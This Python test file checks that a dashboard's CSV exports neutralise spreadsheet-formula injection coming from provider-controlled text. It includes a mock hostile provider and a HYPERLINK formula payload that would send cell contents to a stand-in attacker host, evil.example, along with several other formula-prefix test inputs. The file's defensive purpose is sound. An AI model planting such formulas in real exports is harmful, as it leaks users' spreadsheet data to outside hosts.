"""CSV exports neutralise formulas (OWASP CSV injection) from provider-controlled text.

A real provider on a local socket answers with an error body that is a spreadsheet
formula; the engine measures it, the recorder stores it (for staff), and no CSV export
carries it; the model id, provider text that is exported, reaches a spreadsheet as text.
"""

from __future__ import annotations

import asyncio
import csv
import io
import json
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from dashboard.web.api import csv_cell
from probes.engine import Limits, ProbeRequest, measure
from probes.recording import recorder
from probes.recording.recorder import RunContext
from tests.dashboard.web.conftest import make_endpoint, make_model, make_provider

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'


class _HostileProvider(BaseHTTPRequestHandler):
    """Lists its models, then streams one error event whose message is a formula."""

    def _send(self, content_type: str, body: bytes) -> None:
        self.send_response(200)
        self.send_header("content-type", content_type)
        self.send_header("content-length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_GET(self) -> None:
        self._send("application/json", b'{"object": "list", "data": []}')

    def do_POST(self) -> None:
        self.rfile.read(int(self.headers.get("content-length") or 0))
        event = json.dumps({"error": {"message": FORMULA}})
        self._send("text/event-stream", f"data: {event}\n\n".encode())

    def log_message(self, *args) -> None:  # keep test output quiet
        pass


@pytest.fixture
def hostile_provider():
    server = ThreadingHTTPServer(("127.0.0.1", 0), _HostileProvider)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}/v1"
    server.shutdown()
    server.server_close()


def test_a_provider_error_that_is_a_formula_never_reaches_the_runs_csv(
    client, workload, hostile_provider
):
    provider = make_provider("Hostile")
    endpoint = make_endpoint(provider, make_model("Llama Evil"), "-2+3")
    result = asyncio.run(
        measure(
            ProbeRequest(
                api="openai-chat",
                base_url=hostile_provider,
                model=endpoint.model_id,
                limits=Limits(first_token_s=5, stall_s=2, total_s=10),
            )
        )
    )
    assert result.error == FORMULA  # the provider's text, stored as it came
    recorder.record(
        result, RunContext(endpoint_id=endpoint.pk, workload_id=workload.pk, region="r", worker="w")
    )

    # The provider's words are staff-only (issue 24, one door in): the public API gives
    # our reason instead, and the CSV never carries the formula at all.
    (api_run,) = client.get("/api/v1/runs").json()["runs"]
    assert "error" not in api_run and api_run["reason"] == "error_event"
    csv_text = client.get("/api/v1/runs.csv").content.decode()
    assert FORMULA not in csv_text
    (row,) = csv.DictReader(io.StringIO(csv_text))
    assert row["model_id"] == "'-2+3"
    assert row["status"] == "stream_error" and row["reason"] == "error_event"
    # Every other export: the model id is provider text there too.
    (endpoint_row,) = csv.DictReader(
        io.StringIO(client.get("/api/v1/catalog.csv").content.decode())
    )
    assert endpoint_row["model_id"] == "'-2+3"


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1+1", "@SUM(A1)", "\tx", "\rx"])
def test_text_that_a_spreadsheet_would_run_gets_a_leading_quote(text):
    assert csv_cell(text) == "'" + text


def test_numbers_and_plain_text_are_left_alone():
    assert csv_cell(-12.5) == -12.5
    assert csv_cell(0) == 0
    assert csv_cell(None) == ""
    assert csv_cell("llama-3.3-70b") == "llama-3.3-70b"
